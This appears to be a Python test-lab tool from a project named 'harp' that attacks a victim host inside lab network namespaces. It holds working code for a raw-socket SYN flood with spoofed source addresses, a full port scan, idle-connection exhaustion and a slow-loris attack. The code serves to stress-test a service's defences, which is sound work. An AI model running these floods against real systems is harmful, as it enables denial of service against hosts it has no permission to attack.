# SPDX-License-Identifier: Apache-2.0
"""Attacks on a host's reachable ports, inside the lab's namespaces.

`attack.py KIND ADDRESS PORT...` in the attacker's namespace. It prints "ready" after its first
packets and continues until its stdin ends:

    syn    SYN flood to these ports from random source ports, half of it from addresses without a
           host
    scan   a SYN to every port, repeatedly
    silent connections to these ports that send nothing, reopened when the victim closes them
    loris  connections to these ports that send a byte of a preamble at intervals (slow loris)
"""

import os
import random
import socket
import struct
import subprocess
import sys
from collections.abc import Iterator, Sequence
from types import TracebackType
from typing import Self

from harp.errors import Exit, HarpError
from harp.lab import Host
from harp.lab.piped import Piped
from harp.waiting import readable

KINDS = ("syn", "scan", "silent", "loris")
_BURST, _PAUSE_S = 20, 0.01  # 2000 packets per second
_CONNECTIONS = 100  # per port
_LORIS_S = 0.2  # between a connection's bytes
_HELLO = b"HELO" + struct.pack("<HHQI", 1, 0, 0, 262144) + bytes(44)


class Attack:
    """An attacker on a host, active from __enter__ to __exit__."""

    def __init__(self, host: Host, kind: str, victim: str, ports: Sequence[int]) -> None:
        if kind not in KINDS:
            raise HarpError(f"attack: unknown kind {kind}: use {', '.join(KINDS)}", Exit.USAGE)
        argv = [sys.executable, __file__, kind, victim, *map(str, ports)]
        self._process = host.popen(argv, stdin=subprocess.PIPE)
        self._tool = Piped("attack.py", self._process)
        self._tool.expect("ready")

    def __enter__(self) -> Self:
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        trace: TracebackType | None,
    ) -> None:
        if self._process.poll() is not None:
            raise HarpError(f"the attacker ended: {self._process.communicate()[1]}")
        self._tool.close()


# ---- the attacker's process ----------------------------------------------------------------------


def _is_stdin_closed(wait_s: float) -> bool:
    return bool(readable([0], wait_s))


def checksum(data: bytes) -> int:
    """RFC 1071's checksum of an even number of bytes."""
    total = int(sum(struct.unpack(f"!{len(data) // 2}H", data)))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


class _Packets:
    """Sends SYNs to one address on a raw IP socket; this host's kernel routes them."""

    def __init__(self, victim: str) -> None:
        family = socket.AF_INET6 if ":" in victim else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as probe:
            probe.connect((victim, 9))
            self._source = socket.inet_pton(family, probe.getsockname()[0])
        self._victim, self._target = victim, socket.inet_pton(family, victim)
        self._raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._rng = random.Random(1)

    def syn(self, port: int, *, spoofed: bool) -> None:
        """Sends a SYN from a random source port."""
        source = self._source
        if spoofed:
            source = source[:-1] + bytes([self._rng.randrange(100, 250)])
        head = struct.pack("!HHIIBBH", self._rng.randrange(1024, 65536), port, 0, 0, 0x50, 2, 64240)
        head = head[:4] + struct.pack("!I", self._rng.getrandbits(32)) + head[8:]
        pseudo = source + self._target + struct.pack("!HH", 6, 20)
        tcp = head + struct.pack("!HH", checksum(pseudo + head + bytes(4)), 0)
        self._raw.sendto(self._ip(source) + tcp, (self._victim, 0))

    def _ip(self, source: bytes) -> bytes:
        if len(source) == 16:
            return struct.pack("!IHBB", 6 << 28, 20, 6, 64) + source + self._target
        # The kernel adds the checksum.
        return struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, 6, 0) + source + self._target


def _ports(kind: str, ports: Sequence[int]) -> Iterator[int]:
    while True:
        yield from range(1, 65536) if kind == "scan" else ports


def _flood(kind: str, victim: str, ports: Sequence[int]) -> None:
    packets = _Packets(victim)
    for count, port in enumerate(_ports(kind, ports), 1):
        packets.syn(port, spoofed=kind == "syn" and count % 2 == 0)
        if count == _BURST:
            print("ready", flush=True)
        if count % _BURST == 0 and _is_stdin_closed(_PAUSE_S):
            break


class _Connection:
    """A connection that is reopened when the victim closes it."""

    def __init__(self, victim: str, port: int) -> None:
        self._address = (victim, port)
        self._family = socket.AF_INET6 if ":" in victim else socket.AF_INET
        self.socket: socket.socket | None = None
        self.sent_bytes = 0

    def step(self, send: bool) -> None:
        if self.socket is None:
            self.socket = socket.socket(self._family, socket.SOCK_STREAM)
            self.socket.setblocking(False)
            self.socket.connect_ex(self._address)
            self.sent_bytes = 0
            return
        try:
            if send:
                self.sent_bytes += self.socket.send(_HELLO[self.sent_bytes : self.sent_bytes + 1])
            if self.socket.recv(1) == b"":
                raise ConnectionResetError
        except BlockingIOError:
            pass
        except OSError:
            self.socket.close()
            self.socket = None


def _connect_many(kind: str, victim: str, ports: Sequence[int]) -> None:
    connections = [_Connection(victim, port) for port in ports for _ in range(_CONNECTIONS)]
    for connection in connections:
        connection.step(False)
    print("ready", flush=True)
    while not _is_stdin_closed(_LORIS_S):
        for connection in connections:
            connection.step(kind == "loris")


def main(argv: Sequence[str]) -> int:
    kind, victim, *ports = argv
    attack = _flood if kind in ("syn", "scan") else _connect_many
    attack(kind, victim, [int(port) for port in ports])
    return os.EX_OK


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
